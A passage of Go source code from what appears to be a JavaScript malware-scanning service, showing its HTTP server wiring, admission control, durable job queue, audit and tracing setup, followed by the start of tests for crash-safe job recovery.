	// QueueDir enables the durable job queue: async jobs are persisted to
	// a WAL under this directory and survive crashes and restarts. Empty
	// keeps the in-memory job store.
	QueueDir string
	// QueueWatermark is the durable backlog (pending + leased jobs) beyond
	// which admission rejects new work with 429; <= 0 means
	// DefaultQueueWatermark. Only meaningful with QueueDir.
	QueueWatermark int
	// QueueLease is the durable delivery lease; a worker that misses
	// heartbeats for this long loses the job to another worker. <= 0 means
	// DefaultQueueLease. Only meaningful with QueueDir.
	QueueLease time.Duration
	// QueueMaxAttempts is the delivery budget before a durable job is
	// dead-lettered; <= 0 means the queue default (5). Only meaningful
	// with QueueDir.
	QueueMaxAttempts int
	// TraceBuffer bounds the in-process trace store backing /debug/traces
	// (recently finished traces kept for inspection). 0 selects
	// obs.DefaultTraceCap; negative disables trace retention entirely.
	TraceBuffer int
	// SlowTrace is the root-span latency past which a finished trace is
	// held in the store's slow ring (biased retention: fast traffic cannot
	// evict it) and an automatic CPU profile may fire; <= 0 means
	// obs.DefaultSlowThreshold.
	SlowTrace time.Duration
	// ProfileDir receives automatic slow-trace CPU profiles; empty
	// disables capture.
	ProfileDir string
	// AuditDir enables the verdict audit trail: one crash-safe NDJSON line
	// per verdict (and per admission reject / evicted poll) under this
	// directory. Empty disables auditing.
	AuditDir string
	// AuditMaxBytes rotates audit files past this size; <= 0 means
	// audit.DefaultMaxFileBytes. Only meaningful with AuditDir.
	AuditMaxBytes int64
	// RulesDir enables the declarative rules layer: *.json rule files
	// (internal/rules) loaded at startup and hot-reloadable via SIGHUP or
	// POST /admin/reload-rules. A broken directory fails startup; a broken
	// reload keeps the previous rule set serving. Empty disables rules.
	RulesDir string
	// AlertWebhook, when non-empty, is the http(s) endpoint that receives
	// one JSON alert per deny hit or forcing-signature verdict. Delivery is
	// asynchronous with retries and never blocks scans.
	AlertWebhook string
}

func (c Config) withDefaults() Config {
	if c.MaxBody <= 0 {
		c.MaxBody = DefaultMaxBody
	}
	if c.MaxBatch <= 0 {
		c.MaxBatch = DefaultMaxBatch
	}
	if c.MaxConcurrent <= 0 {
		c.MaxConcurrent = 2 * runtime.GOMAXPROCS(0)
	}
	switch {
	case c.MaxQueue == 0:
		c.MaxQueue = DefaultMaxQueue
	case c.MaxQueue < 0:
		c.MaxQueue = 0
	}
	if c.Burst <= 0 {
		c.Burst = int(c.RatePerSec)
		if c.Burst < 1 {
			c.Burst = 1
		}
	}
	if c.MaxJobs <= 0 {
		c.MaxJobs = DefaultMaxJobs
	}
	if c.JobWorkers <= 0 {
		c.JobWorkers = DefaultJobWorkers
	}
	if c.JobTTL <= 0 {
		c.JobTTL = DefaultJobTTL
	}
	if c.DrainTimeout <= 0 {
		c.DrainTimeout = DefaultDrainTimeout
	}
	if c.QueueWatermark <= 0 {
		c.QueueWatermark = DefaultQueueWatermark
	}
	if c.QueueLease <= 0 {
		c.QueueLease = DefaultQueueLease
	}
	return c
}

// Server is the serving subsystem: handler wiring, admission control, the
// async job machinery, and the live-model holder. Build with New, expose
// Handler() behind an http.Server, and call Drain then Close on shutdown.
type Server struct {
	cfg Config
	reg *obs.Registry
	met *metrics

	holder *holder // nil when no model is configured
	adm    *admission
	rl     *rateLimiter // nil when rate limiting is disabled

	traces *obs.TraceStore // nil when trace retention is disabled
	audit  *audit.Log      // nil when auditing is disabled
	rules  *rules.Holder   // nil when the rules layer is disabled
	alerts *alert.Sink     // nil when alerting is disabled

	store       *jobStore
	jobCh       chan *job
	jobsPending atomic.Int64

	// Durable mode (cfg.QueueDir set): q replaces the in-memory job path,
	// workerCancel stops the durable workers' Next loops, and progress
	// exposes verdicts of running durable jobs to polls.
	q            *queue.Queue
	workerCancel context.CancelFunc
	progress     progressTable

	draining atomic.Bool
	stop     chan struct{}
	stopOnce sync.Once

	handler http.Handler
}

// New assembles the subsystem against reg (obs.Default() when nil),
// loading and shadow-validating the model when cfg.ModelPath is set. The
// full metric surface — detector stages, scan engine, and serve families —
// is pre-registered so /metrics is complete before the first request.
func New(cfg Config, reg *obs.Registry) (*Server, error) {
	cfg = cfg.withDefaults()
	if reg == nil {
		reg = obs.Default()
	}
	core.RegisterStageMetrics(reg)
	scan.RegisterMetrics(reg)
	met := newMetrics(reg)
	s := &Server{
		cfg:   cfg,
		reg:   reg,
		met:   met,
		adm:   newAdmission(cfg.MaxConcurrent, cfg.MaxQueue, met),
		store: newJobStore(cfg.MaxJobs, cfg.JobTTL, met),
		jobCh: make(chan *job, cfg.MaxJobs),
		stop:  make(chan struct{}),
	}
	if cfg.RatePerSec > 0 {
		s.rl = newRateLimiter(cfg.RatePerSec, cfg.Burst)
	}
	if cfg.TraceBuffer >= 0 {
		s.traces = obs.NewTraceStore(obs.TraceStoreOptions{
			Cap:           cfg.TraceBuffer,
			SlowThreshold: cfg.SlowTrace,
			ProfileDir:    cfg.ProfileDir,
		})
	}
	if cfg.AuditDir != "" {
		al, err := audit.Open(cfg.AuditDir, audit.Options{
			MaxFileBytes: cfg.AuditMaxBytes,
			Registry:     reg,
		})
		if err != nil {
			return nil, err
		}
		s.audit = al
	}
	if cfg.RulesDir != "" {
		// The rules layer loads before the model so a broken rule directory
		// fails startup loudly instead of silently serving model-only.
		s.rules = rules.NewHolder(cfg.RulesDir, reg)
		if _, err := s.rules.Reload(); err != nil {
			s.audit.Close()
			return nil, err
		}
	}
	if cfg.AlertWebhook != "" {
		sink, err := alert.Open(alert.Config{URL: cfg.AlertWebhook, Registry: reg})
		if err != nil {
			s.audit.Close()
			return nil, err
		}
		s.alerts = sink
	}
	if cfg.ModelPath != "" {
		// Each model generation gets its own engine carrying the audit sink
		// and its generation sha, so audit lines name the exact weights. The
		// rules holder is shared across model generations: a model reload
		// keeps the live rule set, and vice versa.
		scanCfg := cfg.Scan
		scanCfg.Audit = s.audit
		if s.rules != nil {
			scanCfg.Rules = s.rules
		}
		if s.alerts != nil {
			scanCfg.Alert = s.alerts
		}
		s.holder = newHolder(cfg.Loader, scanCfg)
		if _, err := s.holder.reload(cfg.ModelPath); err != nil {
			s.alerts.Close()
			s.audit.Close()
			return nil, err
		}
		met.reloadOK.Inc()
	}
	if cfg.QueueDir != "" {
		// Durable mode: jobs live in a WAL-backed queue instead of the
		// in-memory store, so accepted work survives kill -9 and restart.
		q, err := queue.Open(cfg.QueueDir, queue.Options{
			MaxAttempts:   cfg.QueueMaxAttempts,
			LeaseDuration: cfg.QueueLease,
			ResultTTL:     cfg.JobTTL,
			Registry:      reg,
		})
		if err != nil {
			s.audit.Close()
			return nil, err
		}
		s.q = q
		s.progress.m = make(map[string][]verdictLine)
		ctx, cancel := context.WithCancel(context.Background())
		s.workerCancel = cancel
		for i := 0; i < cfg.JobWorkers; i++ {
			go s.durableWorker(ctx, i)
		}
	} else {
		for i := 0; i < cfg.JobWorkers; i++ {
			go s.jobWorker()
		}
	}
	s.handler = s.buildMux()
	return s, nil
}

// Config returns the server's effective (defaulted) configuration.
func (s *Server) Config() Config { return s.cfg }

// Handler returns the subsystem's HTTP handler.
func (s *Server) Handler() http.Handler { return s.handler }

// engine returns the live model's engine, or nil before any model loads.
func (s *Server) engine() *scan.Engine {
	if s.holder == nil {
		return nil
	}
	if m := s.holder.current(); m != nil {
		return m.engine
	}
	return nil
}

// Reload loads and shadow-validates path (the current model path when
// empty) and atomically swaps it in. On error the previous model keeps
// serving; either way the attempt lands on the reload counters.
func (s *Server) Reload(path string) (Version, error) {
	if s.holder == nil {
		return Version{}, errors.New("serve: no model configured")
	}
	if path == "" {
		if m := s.holder.current(); m != nil {
			path = m.path
		}
	}
	_, err := s.holder.reload(path)
	if err != nil {
		s.met.reloadErr.Inc()
		return s.holder.version(), err
	}
	s.met.reloadOK.Inc()
	return s.holder.version(), nil
}

// ReloadRules re-reads the rule directory and — after shadow validation —
// swaps the new generation in. On error the previous rule set keeps serving
// untouched.
func (s *Server) ReloadRules() (rules.Info, error) {
	if s.rules == nil {
		return rules.Info{}, errors.New("serve: no rules directory configured")
	}
	return s.rules.Reload()
}

// Version reports the live model's provenance, plus the live rule set's
// when the rules layer is enabled.
func (s *Server) Version() Version {
	var v Version
	if s.holder != nil {
		v = s.holder.version()
	}
	if s.rules != nil {
		info := s.rules.Info()
		v.Rules = &info
	}
	return v
}

// Draining reports whether Drain has been called.
func (s *Server) Draining() bool { return s.draining.Load() }

// Drain stops admitting new work (every work endpoint answers 503 and
// /healthz flips to draining) and waits for accepted async jobs to finish,
// up to ctx's deadline. In durable mode only leases held by this process
// are waited for — queued jobs persist in the WAL and resume on the next
// start, which is the whole point. In-flight synchronous requests are the
// caller's http.Server.Shutdown's responsibility.
func (s *Server) Drain(ctx context.Context) error {
	s.draining.Store(true)
	if s.workerCancel != nil {
		// Durable workers stop leasing new jobs; held leases run out.
		s.workerCancel()
	}
	tick := time.NewTicker(10 * time.Millisecond)
	defer tick.Stop()
	for {
		if s.jobsPending.Load() == 0 {
			return nil
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-tick.C:
		}
	}
}

// Close stops the async job workers and, in durable mode, closes the
// queue. Call after Drain on shutdown; in-memory jobs still queued (drain
// timed out) are abandoned, durable ones stay in the WAL for the next
// start.
func (s *Server) Close() {
	s.stopOnce.Do(func() {
		close(s.stop)
		if s.workerCancel != nil {
			s.workerCancel()
		}
		if s.q != nil {
			s.q.Close()
		}
		// Drain queued alerts, then flush and fsync the audit tail; records
		// from still-running goroutines after this point are dropped and
		// counted.
		s.alerts.Close()
		s.audit.Close()
	})
}

// buildMux wires every route. Work endpoints pass through instrumentation
// (per-endpoint latency) and admission (drain check, model check, rate
// limit, bounded queue); observability endpoints stay un-gated so /metrics
// and /healthz keep answering under overload and drain.
func (s *Server) buildMux() http.Handler {
	mux := http.NewServeMux()
	mux.Handle("/metrics", obs.MetricsHandler(s.reg))
	mux.HandleFunc("/healthz", s.handleHealthz)
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)

	mux.HandleFunc("GET /debug/traces", s.handleTraces)
	mux.HandleFunc("GET /debug/traces/{id}", s.handleTraceGet)

	mux.Handle("POST /detect", s.instrument("/detect", s.traced("serve.detect", "detect", s.admit(http.HandlerFunc(s.handleDetect)))))
	mux.Handle("POST /scan", s.instrument("/scan", s.traced("serve.scan", "scan", s.admit(http.HandlerFunc(s.handleScan)))))
	mux.Handle("POST /jobs", s.instrument("/jobs", s.traced("serve.jobs", "jobs", s.admit(http.HandlerFunc(s.handleJobSubmit)))))
	mux.Handle("GET /jobs/{id}", s.traced("serve.jobs.get", "jobs", http.HandlerFunc(s.handleJobGet)))
	mux.Handle("POST /admin/reload", s.instrument("/admin/reload", s.traced("serve.reload", "admin", http.HandlerFunc(s.handleReload))))
	mux.Handle("POST /admin/reload-rules", s.instrument("/admin/reload-rules", s.traced("serve.reload_rules", "admin", http.HandlerFunc(s.handleReloadRules))))
	mux.HandleFunc("GET /version", s.handleVersion)
	return mux
}

// traced is the request-tracing middleware in front of every API endpoint:
// it joins the caller's trace when the request carries a W3C traceparent
// header (otherwise a fresh 128-bit trace id is minted), opens the
// endpoint's root span, and answers with `traceparent` and `X-Request-Id`
// response headers — so callers can correlate any response, including
// rejections, with /debug/traces/{id} and the audit trail. The request id
// is the caller's X-Request-Id when present, the trace id otherwise.
func (s *Server) traced(span, source string, h http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		ctx := obs.WithRegistry(r.Context(), s.reg)
		if s.traces != nil {
			ctx = obs.WithTraceStore(ctx, s.traces)
		}
		if rc, ok := obs.ParseTraceparent(r.Header.Get("traceparent")); ok {
			ctx = obs.ContextWithRemote(ctx, rc)
		}
		ctx, sp := obs.StartSpan(ctx, span)
		defer sp.End()
		sp.SetAttr("method", r.Method)
		sp.SetAttr("path", r.URL.Path)
		reqID := r.Header.Get("X-Request-Id")
		if reqID == "" {
			reqID = sp.TraceID.String()
		} else {
			sp.SetAttr("request_id", reqID)
		}
		w.Header().Set("traceparent", sp.Context().Traceparent())
		w.Header().Set("X-Request-Id", reqID)
		ctx = audit.WithMeta(ctx, audit.Meta{Source: source, RequestID: reqID})
		h.ServeHTTP(w, r.WithContext(ctx))
	})
}

// instrument records per-endpoint latency around h.
func (s *Server) instrument(endpoint string, h http.Handler) http.Handler {
	hist := s.met.latency[endpoint]
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		start := time.Now()
		h.ServeHTTP(w, r)
		hist.ObserveDuration(time.Since(start))
	})
}

// admit is the admission-control gate in front of every work endpoint:
// drain check, model presence, per-client rate limit, then the bounded
// concurrency queue. Rejections are counted by reason and carry
// Retry-After where retrying makes sense.
func (s *Server) admit(h http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if s.draining.Load() {
			s.reject(w, r, "draining", http.StatusServiceUnavailable, 0, "server is draining")
			return
		}
		if s.engine() == nil {
			s.reject(w, r, "no_model", http.StatusServiceUnavailable, 0, "no model loaded")
			return
		}
		if s.rl != nil {
			if ok, retry := s.rl.allow(clientKey(r), time.Now()); !ok {
				secs := int(retry.Seconds()) + 1
				s.reject(w, r, "rate_limited", http.StatusTooManyRequests, secs, "client rate limit exceeded")
				return
			}
		}
		if s.q != nil && s.q.Depth() >= s.cfg.QueueWatermark {
			// The durable backlog is past the watermark: shed work before
			// it ever touches a slot, with a hint to come back once the
			// workers have caught up.
			s.reject(w, r, "backlog", http.StatusTooManyRequests, 2, "durable job backlog past watermark")
			return
		}
		release, queueFull := s.adm.acquire(r.Context().Done())
		if release == nil {
			if queueFull {
				s.reject(w, r, "queue_full", http.StatusTooManyRequests, 1, "admission queue full")
			}
			// Otherwise the client went away while queued; nothing to say.
			return
		}
		defer release()
		h.ServeHTTP(w, r)
	})
}

// reject answers an admission failure, counts it, and leaves an audit line
// so shed load is as accountable as served load.
func (s *Server) reject(w http.ResponseWriter, r *http.Request, reason string, status, retryAfter int, msg string) {
	if c, ok := s.met.rejects[reason]; ok {
		c.Inc()
	}
	if retryAfter > 0 {
		w.Header().Set("Retry-After", strconv.Itoa(retryAfter))
	}
	if s.audit != nil {
		m := audit.MetaFromContext(r.Context())
		rec := audit.Record{Kind: "reject", Reason: reason, Source: m.Source, RequestID: m.RequestID}
		if sp := obs.SpanFromContext(r.Context()); sp != nil {
			rec.TraceID = sp.TraceID.String()
		}
		s.audit.Write(rec)
	}
	writeJSONError(w, status, msg)
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	json.NewEncoder(w).Encode(v)
}

// writeJSONError answers status with {"error": msg}, echoing the request id
// the traced middleware stamped on the response headers — every error body,
// 4xx or 5xx, names the id to quote when reporting the failure.
func writeJSONError(w http.ResponseWriter, status int, msg string) {
	body := map[string]string{"error": msg}
	if id := w.Header().Get("X-Request-Id"); id != "" {
		body["request_id"] = id
	}
	writeJSON(w, status, body)
}

// handleHealthz is the load-balancer probe: 200 ok while serving, 503
// draining once shutdown starts so traffic backs off before the listener
// closes.
func (s *Server) handleHealthz(w http.ResponseWriter, _ *http.Request) {
	if s.draining.Load() {
		writeJSON(w, http.StatusServiceUnavailable, map[string]string{"status": "draining"})
		return
	}
	writeJSON(w, http.StatusOK, map[string]string{"status": "ok"})
}

// deobCtx resolves the optional ?deobfuscate= query parameter into a scan
// context: absent keeps the engine's configured default, a boolean value
// overrides it for this request only (scan.WithDeobfuscate). An
// unparseable value is a client error.
func deobCtx(r *http.Request) (context.Context, error) {
	v := r.URL.Query().Get("deobfuscate")
	if v == "" {
		return r.Context(), nil
	}
	on, err := strconv.ParseBool(v)
	if err != nil {
		return nil, errors.New("invalid deobfuscate value (want a boolean)")
	}
	return scan.WithDeobfuscate(r.Context(), on), nil
}

// handleDetect classifies a single raw-JS POST body — the original
// one-script endpoint, kept for simple callers and the CLI smoke tests.
func (s *Server) handleDetect(w http.ResponseWriter, r *http.Request) {
	ctx, err := deobCtx(r)
	if err != nil {
		writeJSONError(w, http.StatusBadRequest, err.Error())
		return
	}
	body, err := io.ReadAll(http.MaxBytesReader(w, r.Body, s.cfg.MaxBody))
	if err != nil {
		if isBodyTooLarge(err) {
			writeJSONError(w, http.StatusRequestEntityTooLarge, "request body exceeds the size limit")
		} else {
			writeJSONError(w, http.StatusBadRequest, err.Error())
		}
		return
	}
	name := r.URL.Query().Get("name")
	if name == "" {
		name = "request.js"
	}
	// The traced middleware already stocked the context with the registry,
	// trace store, root span, and audit provenance.
	res := s.engine().ScanSource(ctx, name, string(body))
	resp := map[string]any{
		"path":      res.Path,
		"verdict":   res.Verdict.String(),
		"malicious": res.Malicious,
	}
	if res.Tier != "" {
		resp["tier"] = res.Tier
	}
	if len(res.DeobPasses) > 0 {
		resp["deob_passes"] = res.DeobPasses
	}
	if len(res.RuleHits) > 0 {
		resp["rule_hits"] = res.RuleHits
	}
	if res.Err != nil {
		resp["error"] = res.Err.Error()
		resp["reason"] = scan.Reason(res.Err)
	}
	writeJSON(w, http.StatusOK, resp)
}

// handleScan is the streaming batch endpoint: parse the whole submission,
// fan it across the engine's worker pool, and flush one NDJSON verdict
// line per script as it completes — a slow script never blocks verdicts
// for the rest of the batch (lines arrive in completion order).
func (s *Server) handleScan(w http.ResponseWriter, r *http.Request) {
	ctx, err := deobCtx(r)
	if err != nil {
		writeJSONError(w, http.StatusBadRequest, err.Error())
		return
	}
	r.Body = http.MaxBytesReader(w, r.Body, s.cfg.MaxBody)
	srcs, err := parseBatch(r, s.cfg.MaxBatch)
	if err != nil {
		var be *batchError
		if errors.As(err, &be) {
			writeJSONError(w, be.status, be.msg)
		} else {
			writeJSONError(w, http.StatusBadRequest, err.Error())
		}
		return
	}
	w.Header().Set("Content-Type", "application/x-ndjson")
	w.WriteHeader(http.StatusOK)
	flusher, _ := w.(http.Flusher)
	var mu sync.Mutex
	enc := json.NewEncoder(w)
	s.engine().ScanSources(ctx, srcs, func(res scan.Result) {
		mu.Lock()
		defer mu.Unlock()
		enc.Encode(toLine(res))
		if flusher != nil {
			flusher.Flush()
		}
	})
}

// handleJobSubmit accepts a batch for asynchronous execution: the request
// returns immediately with a job id, and GET /jobs/{id} polls it to
// completion — the shape crawler-scale submitters need when a batch is too
// big to hold a connection open for.
func (s *Server) handleJobSubmit(w http.ResponseWriter, r *http.Request) {
	r.Body = http.MaxBytesReader(w, r.Body, s.cfg.MaxBody)
	srcs, err := parseBatch(r, s.cfg.MaxBatch)
	if err != nil {
		var be *batchError
		if errors.As(err, &be) {
			writeJSONError(w, be.status, be.msg)
		} else {
			writeJSONError(w, http.StatusBadRequest, err.Error())
		}
		return
	}
	if s.q != nil {
		s.durableSubmit(w, r, srcs)
		return
	}
	j := &job{id: newJobID(), sources: srcs, submitted: time.Now(), state: JobQueued}
	if sp := obs.SpanFromContext(r.Context()); sp != nil {
		// Persist the submitting request's trace context so the worker's
		// spans — which run after this response is long gone — join it.
		j.trace = sp.Context().Traceparent()
	}
	j.reqID = audit.MetaFromContext(r.Context()).RequestID
	if !s.store.put(j) {
		s.reject(w, r, "queue_full", http.StatusTooManyRequests, 1, "job store full")
		return
	}
	s.jobsPending.Add(1)
	select {
	case s.jobCh <- j:
	default:
		// The queue channel is sized to the store cap, so this is only
		// reachable when evicted jobs left stale channel slots; shed load.
		s.jobsPending.Add(-1)
		s.store.remove(j.id)
		s.reject(w, r, "queue_full", http.StatusTooManyRequests, 1, "job queue full")
		return
	}
	s.met.jobs["submitted"].Inc()
	s.met.jobInflight.Inc()
	// Answer with the literal queued state: a worker may have started the
	// job already, so j.state must not be read without its lock here.
	writeJSON(w, http.StatusAccepted, map[string]any{
		"id":      j.id,
		"state":   JobQueued,
		"scripts": len(srcs),
	})
}

// handleJobGet polls one job. Ids that once existed but have since been
// evicted answer 410 Gone with a JSON reason, so clients can tell "poll
// slower next time" apart from "you never had this job" (404).
func (s *Server) handleJobGet(w http.ResponseWriter, r *http.Request) {
	id := r.PathValue("id")
	if s.q != nil {
		s.durableGet(w, r, id)
		return
	}
	j, ok := s.store.get(id)
	if !ok {
		if s.store.forgotten(id) {
			s.writeJSONGone(w, r, id)
			return
		}
		writeJSONError(w, http.StatusNotFound, "unknown job")
		return
	}
	writeJSON(w, http.StatusOK, j.view())
}

// writeJSONGone answers a poll for a job that existed but has been evicted
// (TTL expiry or room-making) — 410 Gone, with the reason in the body and
// an audit line recording that results were lost to retention.
func (s *Server) writeJSONGone(w http.ResponseWriter, r *http.Request, id string) {
	if s.audit != nil {
		m := audit.MetaFromContext(r.Context())
		rec := audit.Record{
			Kind: "evicted", Job: id, Reason: "expired",
			Source: m.Source, RequestID: m.RequestID,
		}
		if sp := obs.SpanFromContext(r.Context()); sp != nil {
			rec.TraceID = sp.TraceID.String()
		}
		s.audit.Write(rec)
	}
	body := map[string]string{
		"error":  "job results expired and were evicted",
		"reason": "expired",
	}
	if id := w.Header().Get("X-Request-Id"); id != "" {
		body["request_id"] = id
	}
	writeJSON(w, http.StatusGone, body)
}

// handleReload swaps the model: the current path by default, or ?path= to
// point the server at a new file. Validation failures leave the old model
// serving and answer 422 with the cause.
func (s *Server) handleReload(w http.ResponseWriter, r *http.Request) {
	if s.holder == nil {
		writeJSONError(w, http.StatusServiceUnavailable, "no model configured")
		return
	}
	v, err := s.Reload(r.URL.Query().Get("path"))
	if err != nil {
		writeJSONError(w, http.StatusUnprocessableEntity, err.Error())
		return
	}
	writeJSON(w, http.StatusOK, v)
}

// handleReloadRules re-reads the rule directory. Validation failures —
// parse errors, ref cycles, a set that denies the benign shadow corpus —
// leave the old rule set serving and answer 422 with the cause, without a
// moment of dropped or un-ruled traffic.
func (s *Server) handleReloadRules(w http.ResponseWriter, _ *http.Request) {
	if s.rules == nil {
		writeJSONError(w, http.StatusServiceUnavailable, "no rules directory configured")
		return
	}
	info, err := s.ReloadRules()
	if err != nil {
		writeJSONError(w, http.StatusUnprocessableEntity, err.Error())
		return
	}
	writeJSON(w, http.StatusOK, info)
}

// handleVersion reports the live model's provenance.
func (s *Server) handleVersion(w http.ResponseWriter, _ *http.Request) {
	writeJSON(w, http.StatusOK, s.Version())
}

// jobWorker drains the async queue until Close.
func (s *Server) jobWorker() {
	for {
		select {
		case j := <-s.jobCh:
			s.runJob(j)
		case <-s.stop:
			return
		}
	}
}

// runJob executes one accepted job. The engine generation is captured at
// start, so a mid-job reload never mixes verdicts from two models within
// one job.
func (s *Server) runJob(j *job) {
	defer func() {
		s.jobsPending.Add(-1)
		s.met.jobInflight.Dec()
	}()
	eng := s.engine()
	j.mu.Lock()
	j.state = JobRunning
	j.started = time.Now()
	j.mu.Unlock()
	if eng == nil {
		j.mu.Lock()
		j.state = JobFailed
		j.errMsg = "no model loaded"
		j.finished = time.Now()
		j.mu.Unlock()
		s.met.jobs["failed"].Inc()
		return
	}
	// Rebuild the submitting request's trace context from the persisted
	// traceparent: the worker's spans join the original trace even though
	// the submit response is long gone.
	ctx := s.workCtx(context.Background(), j.trace)
	ctx, sp := obs.StartSpan(ctx, "job.run")
	sp.SetAttr("job", j.id)
	ctx = audit.WithMeta(ctx, audit.Meta{Source: "jobs", Job: j.id, RequestID: j.reqID})
	s.engineScan(ctx, eng, j)
	sp.End()
	j.mu.Lock()
	j.state = JobDone
	j.finished = time.Now()
	j.mu.Unlock()
	s.met.jobs["done"].Inc()
}

// workCtx builds the observability context background workers scan under:
// the server's registry and trace store, plus — when trace is a valid
// traceparent persisted at submission — the submitting request's remote
// trace context, so worker spans join the original trace.
func (s *Server) workCtx(ctx context.Context, trace string) context.Context {
	ctx = obs.WithRegistry(ctx, s.reg)
	if s.traces != nil {
		ctx = obs.WithTraceStore(ctx, s.traces)
	}
	if rc, ok := obs.ParseTraceparent(trace); ok {
		ctx = obs.ContextWithRemote(ctx, rc)
	}
	return ctx
}

// engineScan streams the job's sources through the engine, appending each
// verdict as it lands so a poll of a running job could expose progress.
func (s *Server) engineScan(ctx context.Context, eng *scan.Engine, j *job) {
	eng.ScanSources(ctx, j.sources, func(res scan.Result) {
		line := toLine(res)
		j.mu.Lock()
		j.results = append(j.results, line)
		j.mu.Unlock()
	})
}
