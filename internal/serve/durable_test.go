package serve

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"jsrevealer/internal/obs"
	"jsrevealer/internal/queue"
	"jsrevealer/internal/scan"
)

// selectiveBlock parks classifications of sources containing "block" until
// release is closed (signalling each arrival on entered) and flags sources
// containing "evil"; everything else classifies immediately. Unlike
// blockingClassifier it leaves other jobs free to finish, which the
// crash-restart choreography needs.
func selectiveBlock(entered chan<- struct{}, release <-chan struct{}) scan.Classifier {
	return scan.ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
		if strings.Contains(src, "block") {
			entered <- struct{}{}
			<-release
		}
		return strings.Contains(src, "evil"), nil
	})
}

// postBatch submits a raw NDJSON body to /jobs and returns the accepted id.
func postBatch(t *testing.T, ts *httptest.Server, body string) string {
	t.Helper()
	resp, err := http.Post(ts.URL+"/jobs", "application/x-ndjson", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("/jobs status = %d, want 202", resp.StatusCode)
	}
	var acc struct {
		ID string `json:"id"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&acc); err != nil {
		t.Fatal(err)
	}
	return acc.ID
}

func TestDurableJobLifecycle(t *testing.T) {
	_, ts, reg := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
		QueueDir:  t.TempDir(),
	})
	id := submitJob(t, ts, "a.js", "evil-b.js", "c.js")
	v := pollJob(t, ts, id)
	if v.State != JobDone || v.Scripts != 3 || len(v.Results) != 3 {
		t.Fatalf("finished durable job = %+v", v)
	}
	flagged := 0
	for _, r := range v.Results {
		if r.Malicious {
			flagged++
		}
	}
	if flagged != 1 {
		t.Errorf("flagged %d of 3, want 1", flagged)
	}
	if v.Attempt != 0 {
		t.Errorf("attempt = %d, want 0 (no failed deliveries)", v.Attempt)
	}
	if n := reg.Counter(JobsMetric, "", obs.Labels{"event": "done"}).Value(); n != 1 {
		t.Errorf("jobs done counter = %d, want 1", n)
	}
	if n := reg.Counter(queue.EnqueuedMetric, "", nil).Value(); n != 1 {
		t.Errorf("queue enqueued counter = %d, want 1", n)
	}

	resp, err := http.Get(ts.URL + "/jobs/deadbeef00000000")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Errorf("unknown durable job status = %d, want 404", resp.StatusCode)
	}
}

// TestDurableJobsSurviveRestart is the ISSUE's kill -9 contract, in
// process: a server dies mid-batch via queue.Abandon (nothing flushed or
// cleaned up), a fresh server opens the same directory, and (a) verdicts
// committed before the crash are preserved verbatim, (b) the job that was
// mid-run is redelivered and finishes exactly once, (c) a job still queued
// at crash time completes.
func TestDurableJobsSurviveRestart(t *testing.T) {
	dir := t.TempDir()
	entered := make(chan struct{}, 4)
	release := make(chan struct{})
	cfg := Config{
		ModelPath:  "model",
		Loader:     stubLoader(map[string]scan.Classifier{"model": selectiveBlock(entered, release)}),
		QueueDir:   dir,
		JobWorkers: 1, // one worker, so the blocked job pins the queue
		QueueLease: 200 * time.Millisecond,
	}
	s1, ts1, _ := newTestServer(t, cfg)

	// One job completes before the crash; its verdicts must survive it.
	idDone := submitJob(t, ts1, "a.js", "evil-b.js")
	vDone := pollJob(t, ts1, idDone)
	if vDone.State != JobDone || len(vDone.Results) != 2 {
		t.Fatalf("pre-crash job = %+v", vDone)
	}

	// One job parks mid-scan; one more queues behind it.
	idBlocked := postBatch(t, ts1, `{"name":"stuck.js","source":"block();"}`+"\n")
	<-entered
	idQueued := submitJob(t, ts1, "evil-c.js")

	// kill -9: no drain, no flush, no cleanup.
	s1.q.Abandon()
	close(release)
	ts1.Close()

	// Restart over the same directory, with a classifier that does not
	// block so the redelivered job can finish.
	cfg2 := cfg
	cfg2.Loader = stubLoader(map[string]scan.Classifier{"model": flagEvil})
	_, ts2, reg2 := newTestServer(t, cfg2)

	// (a) The finished job's verdicts were never re-scanned: still 2 lines,
	// still exactly one malicious.
	vKept := pollJob(t, ts2, idDone)
	if vKept.State != JobDone || len(vKept.Results) != 2 {
		t.Fatalf("post-crash finished job = %+v", vKept)
	}
	flagged := 0
	for _, r := range vKept.Results {
		if r.Malicious {
			flagged++
		}
	}
	if flagged != 1 {
		t.Errorf("preserved job flags %d of 2, want 1", flagged)
	}

	// (b) The mid-run job is redelivered — the crashed delivery counts
	// against its budget — and emits its verdict exactly once.
	vBlocked := pollJob(t, ts2, idBlocked)
	if vBlocked.State != JobDone || len(vBlocked.Results) != 1 {
		t.Fatalf("redelivered job = %+v", vBlocked)
	}
	if vBlocked.Attempt != 1 {
		t.Errorf("redelivered job attempt = %d, want 1 (the crash consumed one)", vBlocked.Attempt)
	}

	// (c) The job accepted-but-unstarted at crash time completes.
	vQueued := pollJob(t, ts2, idQueued)
	if vQueued.State != JobDone || len(vQueued.Results) != 1 || !vQueued.Results[0].Malicious {
		t.Fatalf("queued-at-crash job = %+v", vQueued)
	}

	if n := reg2.Counter(queue.RecoveredMetric, "", nil).Value(); n < 2 {
		t.Errorf("recovered counter = %d, want >= 2 (mid-run + queued)", n)
	}
}

// TestDurablePoisonDeadLetters: a job whose payload can never be decoded
// burns its delivery budget and lands in dead-letter, surfaced to polls as
// a failed job with its last error.
